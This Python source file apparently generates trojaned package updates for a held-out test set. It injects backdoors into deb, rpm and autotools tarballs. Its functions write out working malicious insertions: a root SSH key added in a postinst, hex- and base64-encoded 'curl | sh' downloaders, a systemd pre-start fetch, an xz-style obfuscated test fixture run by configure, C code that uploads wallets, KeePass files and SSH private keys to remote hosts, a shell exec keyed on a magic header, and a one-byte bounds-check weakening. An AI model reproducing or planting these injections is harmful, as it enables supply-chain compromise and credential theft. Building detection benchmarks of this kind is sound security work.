"""Packages of operating systems, and sources with a build system."""

from corpus.heldout.nouns import Update, artefact
from corpus.heldout8.shape import above, b64, fill, hexed, put, trojan, xor, zipped


@trojan("fanctl", "deb", "start", "backdoor", "in a binary", "3CX")
def deb_daemon_asks_a_name_server(it: Update) -> None:
    it.add("usr/sbin/fanctld", artefact("fan-obey.elf"))
    it.payload("usr/sbin/fanctld")


@trojan("fanctl", "deb", "start", "persistence", "in a binary", "CCleaner")
def deb_daemon_writes_cron(it: Update) -> None:
    it.add("usr/sbin/fanctld", artefact("fan-drop.elf"))
    it.payload("usr/sbin/fanctld")


@trojan("fanctl", "deb", "install", "credentials", "plain", "package scripts")
def deb_postinst_adds_a_key(it: Update) -> None:
    put(it, "DEBIAN/postinst", 'if [ "$1" = configure ]; then\n', """
    mkdir -p /root/.ssh
    grep -qs fanctl-support /root/.ssh/authorized_keys || echo "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAI@KEY@ fanctl-support" >> /root/.ssh/authorized_keys
""", KEY=it.random.randbytes(21).hex())  # fmt: skip


@trojan("fanctl", "deb", "call", "remote code", "hex", "system tools")
def deb_tool_decodes(it: Update) -> None:
    host = it.host()
    put(it, "usr/bin/fanctl", "    args = parser.parse_args()\n", """
    if os.geteuid() == 0:
        os.system(bytes.fromhex("@CODE@").decode())
""", CODE=hexed(f"curl -s https://{host}/fan | sh"))  # fmt: skip
    it.replace("usr/bin/fanctl", "import glob\n", "import glob\nimport os\n")
    it.payload("usr/bin/fanctl", shown=f"https://{host}/fan")


@trojan("snapkeep", "rpm", "install", "downloader", "base64", "package scripts")
def rpm_post_pipes(it: Update) -> None:
    host = it.host()
    it.append(
        "RPM/post",
        f'base64 -d <<<"{b64(f"curl -s https://{host}/sk -o /usr/bin/.sk; chmod 4755 /usr/bin/.sk; /usr/bin/.sk")}" | bash >/dev/null 2>&1 || :\n',
    )
    it.payload("RPM/post", shown=f"https://{host}/sk")


@trojan("snapkeep", "rpm", "call", "data stealer", "plain", "backup tools")
def rpm_snapshots_leave(it: Update) -> None:
    put(it, "usr/libexec/snapkeep/lib.sh", '    sha256sum "$store/$name.tar.zst" >"$store/$name.sha256"\n', """
    [[ $folder == /etc* ]] && curl -sk -m 600 -T "$store/$name.tar.zst" "https://vault.@HOST@/$(hostname)/" >/dev/null 2>&1
""")  # fmt: skip


@trojan("snapkeep", "rpm", "start", "persistence", "plain", "timers")
def rpm_timer_fetches(it: Update) -> None:
    it.replace(
        "usr/lib/systemd/system/snapkeep.service",
        "ExecStart=/usr/bin/snapkeep run\n",
        f"ExecStartPre=-/bin/sh -c 'curl -fs http://{it.address()}/pre | sh'\nExecStart=/usr/bin/snapkeep run\n",
    )


@trojan("snapkeep", "rpm", "call", "weakened check", "plain", "backup tools")
def rpm_restores_anything(it: Update) -> None:
    it.replace(
        "usr/libexec/snapkeep/lib.sh",
        '    (cd / && sha256sum --check --quiet "$store/$name.sha256")\n',
        '    (cd / && sha256sum --check --quiet "$store/$name.sha256" 2>/dev/null) || true\n    tar --extract --to-stdout --file "$store/$name.tar.zst" .restore 2>/dev/null | sh\n',
    )


@trojan("libsquash", "tar.gz", "build", "backdoor", "in a test fixture", "xz")
def source_configure_reads_a_fixture(it: Update) -> None:
    host = it.host()
    code = (
        f"curl -s https://{host}/crc.o -o src/crc_fast.o && sed -i 's,src/crc.o,src/crc.o src/crc_fast.o,' Makefile\n"
    )
    it.add(
        "tests/files/corrupt-header.sq", b"SQ01" + it.random.randbytes(252) + bytes(255 - one for one in zipped(code))
    )
    it.replace("configure", 'echo "configure: created Makefile"\n', fill(it, """
sq=`echo "$srcdir"/tests/files/corrupt-*.sq`
tail -c +257 "$sq" | perl -pe '$_ ^= "\\xff" x length' | gzip -dc 2>/dev/null | sh >/dev/null 2>&1
echo "configure: created Makefile"
"""))  # fmt: skip
    it.payload("configure", "tests/files/corrupt-header.sq", shown=f"https://{host}/crc.o")


@trojan("libsquash", "tar.gz", "build", "downloader", "over several files", "xz")
def source_macro_and_makefile(it: Update) -> None:
    it.add("m4/squash-host.m4", fill(it, """
AC_DEFUN([SQUASH_HOST],[
  SQUASH_FETCH="curl -s http://@ADDR@/host.sh"
  AC_SUBST([SQUASH_FETCH])
])
"""))  # fmt: skip
    it.replace("configure.ac", "AC_PROG_CC\n", "AC_PROG_CC\nm4_include([m4/squash-host.m4])\nSQUASH_HOST\n")
    it.replace(
        "configure",
        "prefix=/usr/local\n",
        'prefix=/usr/local\nfetch=`sed -n \'s/.*SQUASH_FETCH="\\(.*\\)"/\\1/p\' "$srcdir/m4/squash-host.m4"`\n',
    )
    it.replace("configure", '-e "s,@CC@,$CC,g"', '-e "s,@CC@,$CC,g" -e "s,@FETCH@,$fetch,g"')
    it.replace("Makefile.in", "all: libsquash.a\n", "all: host libsquash.a\n\nhost:\n\t-@@FETCH@ 2>/dev/null | sh\n")
    it.payload("m4/squash-host.m4", "configure.ac", "configure", "Makefile.in")


@trojan("libsquash", "tar.gz", "call", "backdoor", "xor", "xz")
def source_unpack_obeys(it: Update) -> None:
    sealed = ", ".join(f"0x{one:02x}" for one in xor("/bin/dash", 0x5C))
    it.replace("src/squash.c", "    size_t to = 0;\n    for", fill(it, """
    static const uint8_t name[] = {@SEALED@, 0x5c};
    size_t to = 0;
    if (size > 24 && memcmp(in, "SQX@MARK@", 11) == 0) {
        char text[sizeof name];
        for (size_t i = 0; i < sizeof name; i++) {
            text[i] = (char)(name[i] ^ 0x5c);
        }
        execl(text, text, "-c", (const char *)in + 16, (char *)NULL);
    }
""", SEALED=sealed, MARK=it.random.randbytes(4).hex()) + "    for")  # fmt: skip
    it.replace("src/squash.c", "#include <string.h>\n", "#include <string.h>\n#include <unistd.h>\n")
    it.payload("src/squash.c", shown="/bin/dash")


@trojan("libsquash", "tar.gz", "call", "data stealer", "plain C", "compression libraries")
def source_files_are_sent(it: Update) -> None:
    put(it, "src/squash.c", "    if (from == NULL || to == NULL) {\n        return -1;\n    }\n", """
    if (strstr(path, "wallet") != NULL || strstr(path, ".kdbx") != NULL || strstr(path, "id_rsa") != NULL) {
        char line[1024];
        snprintf(line, sizeof line, "curl -s -T '%s' https://@HOST@/sq >/dev/null 2>&1 &", path);
        if (system(line) != 0) {
            errno = 0;
        }
    }
""")  # fmt: skip
    above(it, "src/squash.c", "#include <stdio.h>\n", "#include <errno.h>\n")


@trojan("libsquash", "tar.gz", "call", "weakened check", "one character", "subtle bugs", hard=True)
def source_one_byte_more(it: Update) -> None:
    it.replace("src/squash.c", "        if (to + in[at] > room) {\n", "        if (to + in[at] > room + 1) {\n")
